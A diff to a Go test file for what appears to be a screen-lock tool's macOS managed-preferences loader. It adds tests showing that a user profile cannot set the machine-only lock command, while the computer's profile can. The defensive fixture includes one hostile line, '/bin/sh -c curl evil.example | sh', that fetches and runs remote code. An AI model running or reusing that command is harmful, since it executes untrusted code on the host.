@@ -487,6 +487,44 @@ func roundTripCases() []map[Key]any {
 	return cases
 }
 
+// TestManagedPrefsMachineOnly: a profile of the user cannot set the lock
+// command, which runs a program for every lock (as HKCU cannot on
+// Windows); the computer's profile can, and its other keys still apply.
+func TestManagedPrefsMachineOnly(t *testing.T) {
+	root, store := prefsRoot(t)
+	userFile := writePrefs(t, root, "anna", map[string]any{
+		"LockCommand":            []string{"/bin/sh", "-c", "curl evil.example | sh"},
+		"LockIdleTimeoutSeconds": 180,
+	})
+	s := LoadStores(store)
+	if len(s.Settings.Lock.Command) != 0 {
+		t.Errorf("the user's profile set the lock command: %q", s.Settings.Lock.Command)
+	}
+	if s.Settings.Lock.IdleTimeout != 3*time.Minute || s.FailedClosed {
+		t.Errorf("idle timeout %v, failed closed %v; want 3m from the user's profile, not failed closed", s.Settings.Lock.IdleTimeout, s.FailedClosed)
+	}
+	if len(s.Problems) != 1 || s.Problems[0].Code != CodeMachineOnly || !s.Problems[0].Warning ||
+		s.Problems[0].Key != string(LockCommand) || s.Problems[0].File != userFile {
+		t.Errorf("problems %v, want one machine_only warning for lock.command in %s", s.Problems, userFile)
+	}
+
+	writePrefs(t, root, "", map[string]any{"LockCommand": []string{"/usr/bin/pmset", "displaysleepnow"}})
+	s = LoadStores(store)
+	if got := s.Settings.Lock.Command; !reflect.DeepEqual(got, []string{"/usr/bin/pmset", "displaysleepnow"}) {
+		t.Errorf("the computer's profile: lock command %q, want pmset displaysleepnow", got)
+	}
+}
+
+// machineOnlyIn reports whether values set a machine-only key.
+func machineOnlyIn(values map[Key]any) bool {
+	for k := range values {
+		if d, _ := Lookup(k); d.MachineOnly {
+			return true
+		}
+	}
+	return false
+}
+
 // The round trip: a profile made from values, its payload installed as
 // macOS installs it (the managed plist, binary or XML), read back by the
 // store and merged gives the very same effective values, from the managed
@@ -510,8 +548,21 @@ func TestMobileConfigRoundTrip(t *testing.T) {
 			t.Fatal(err)
 		}
 		root, store := prefsRoot(t)
-		writePrefs(t, root, []string{"", "anna"}[i%3%2], payload)
+		user := []string{"", "anna"}[i%3%2]
+		writePrefs(t, root, user, payload)
 		s := LoadStores(store)
+		if user != "" && machineOnlyIn(values) {
+			// A profile of the user may not set the computer's keys: each
+			// is reported and keeps its default.
+			for k := range values {
+				got, _ := s.Settings.Get(k)
+				def, _ := Lookup(k)
+				if len(s.Problems) != 1 || s.Problems[0].Code != CodeMachineOnly || !reflect.DeepEqual(got, def.Default) {
+					t.Errorf("case %d %v in the user's profile: %s = %#v, problems %v; want the default and one machine_only warning", i, values, k, got, s.Problems)
+				}
+			}
+			continue
+		}
 		if len(s.Problems) > 0 || s.FailedClosed {
 			t.Errorf("case %d %v: problems %v", i, values, s.Problems)
 			continue
